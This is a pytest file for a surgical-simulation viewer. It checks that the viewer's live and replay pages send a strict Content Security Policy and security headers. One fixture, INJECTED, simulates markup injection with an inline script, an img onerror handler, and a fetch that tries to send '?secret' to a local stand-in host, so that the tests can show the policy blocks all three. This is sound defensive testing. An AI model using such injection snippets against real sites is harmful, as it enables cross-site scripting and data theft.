"""What browsers let our pages do: all that they need, and nothing that came into them."""

import re
import urllib.request

import pytest

from scalpel_sim import Viewer
from scalpel_sim.viewer.messages import Choices, PageControls
from scalpel_sim.viewer.model_shapes import body_poses
from scalpel_sim.viewer.page import live_page, policy_of
from tests.scalpel_sim.little_arm import FRAME, little_arm, readings
from tests.scalpel_sim.real_cut import cut_tissue
from tests.scalpel_sim.viewer.test_replay import write_cut
from tests.support.browser import TIMEOUT, WINDOW, local_file

WATCHED = """
    let nViolations = 0;
    document.addEventListener("securitypolicyviolation", () => { nViolations += 1; });
    addEventListener("load", () => setInterval(() => {
        document.documentElement.dataset.violations = nViolations;
    }, 50));
"""
"""Counts in the page what its policy forbids; a test can run no script in it afterwards."""

INJECTED = """
    addEventListener("load", () => {
        const script = document.createElement("script");
        script.textContent = "document.documentElement.dataset.injected = 'yes'";
        document.body.append(script);
        const image = document.createElement("img");
        image.setAttribute("onerror", "document.documentElement.dataset.injected = 'yes'");
        image.src = "data:,";
        document.body.append(image);
        fetch("http://127.0.0.1:1/?secret").catch(() => {});
    });
"""
"""What somebody might do who gets markup into the page."""

CHOICES = Choices("organ", ["organ", "slab"], "organ", ["gel"], "gel", 5.0, 0.4e-3, True)


@pytest.fixture
def strict_tab(browser):
    """Open a tab in which the policies of pages hold, and which collects what is said of them."""
    page = browser.new_page(viewport=WINDOW)
    page.set_default_timeout(TIMEOUT)
    page.said = []
    page.on("pageerror", lambda error: page.said.append(str(error)))
    page.on("console", lambda message: page.said.append(message.text))
    page.add_init_script(WATCHED)
    yield page
    page.close()


def violations(tab):
    """Return what the policy of a page forbade it: their number, and what the console says."""
    tab.wait_for_selector("html[data-violations]", state="attached")
    count = int(tab.get_attribute("html", "data-violations"))
    return count, [each for each in tab.said if "Content Security Policy" in each]


def use(tab):
    """Press every key and choose all that there is to choose."""
    tab.click("#display summary")  # which is closed in a small window
    for key in "fgcwvqh1":
        tab.keyboard.press(key)
    for quantity in ("displacement", "strain", "stress", ""):
        tab.select_option("#quantity", quantity)
    with tab.expect_download() as saved:
        tab.keyboard.press("p")
    assert saved.value.suggested_filename.endswith(".png")


def test_every_script_of_a_page_is_named_by_its_hash_and_no_other_is_allowed():
    page = live_page("a <run>", "caption", "token", is_led=True, choices=CHOICES)
    policy = policy_of(page, "'self'")
    assert page.count("<script>") == policy.count("'sha256-") == 3
    assert "unsafe" not in policy.replace("style-src 'unsafe-inline'", "")
    changed = page.replace('"use strict"', '"use strict";alert(1)')
    assert policy_of(changed, "'self'") != policy


def test_the_live_page_is_sent_with_its_policy():
    with Viewer(little_arm()[0]) as viewer, urllib.request.urlopen(viewer.url) as answer:
        policy = answer.headers["Content-Security-Policy"]
        assert policy.startswith("default-src 'none'; script-src 'sha256-")
        assert f"connect-src 'self' ws://{viewer.url.split('/')[2]};" in policy
        assert policy.endswith("frame-ancestors 'none'")
        assert answer.headers["X-Content-Type-Options"] == "nosniff"
        assert answer.headers["X-Frame-Options"] == "DENY"
        assert answer.headers["Referrer-Policy"] == "no-referrer"


def test_a_replay_has_its_policy_before_any_script(tmp_path):
    write_cut(tmp_path / "replay.html")
    text = (tmp_path / "replay.html").read_text()
    at = text.index('<meta http-equiv="Content-Security-Policy" content="default-src')
    assert at < text.index("<script")
    assert re.search(r"connect-src data:; base-uri 'none'", text[at : at + 1000])


@pytest.mark.browser
@pytest.mark.parametrize("controls", [None, CHOICES], ids=["watched", "led"])
def test_the_live_page_does_nothing_that_its_policy_forbids(strict_tab, controls):
    from collections import deque

    page_controls = None
    if controls is not None:
        page_controls = PageControls(deque(), is_led=True, choices=controls)
    model, data = little_arm()
    with Viewer(model, frame=FRAME, controls=page_controls) as viewer:
        viewer.show(cut_tissue()[2], body_poses(data), readings(0.5))
        strict_tab.goto(viewer.url)
        strict_tab.wait_for_selector("#time:text-is('0.50 s')")
        use(strict_tab)
        assert violations(strict_tab) == (0, [])
        assert strict_tab.said == []


@pytest.mark.browser
def test_a_replay_from_a_file_does_nothing_that_its_policy_forbids(strict_tab, tmp_path):
    write_cut(tmp_path / "replay.html")
    strict_tab.goto(local_file(tmp_path / "replay.html"))
    strict_tab.wait_for_selector("#time:text-is('0.20 s')")
    use(strict_tab)
    assert violations(strict_tab) == (0, [])
    assert strict_tab.said == []


@pytest.mark.browser
@pytest.mark.parametrize("kind", ["live", "replay"])
def test_a_script_that_gets_into_a_page_does_not_run(strict_tab, kind, tmp_path):
    strict_tab.add_init_script(INJECTED)
    model, data = little_arm()
    with Viewer(model, frame=FRAME) as viewer:
        viewer.show(cut_tissue()[2], body_poses(data), readings(0.2))
        write_cut(tmp_path / "replay.html")
        file = local_file(tmp_path / "replay.html")
        strict_tab.goto(viewer.url if kind == "live" else file)
        strict_tab.wait_for_selector("#time:text-is('0.20 s')")
        strict_tab.wait_for_selector("html[data-violations='3']", state="attached")
        assert strict_tab.get_attribute("html", "data-injected") is None
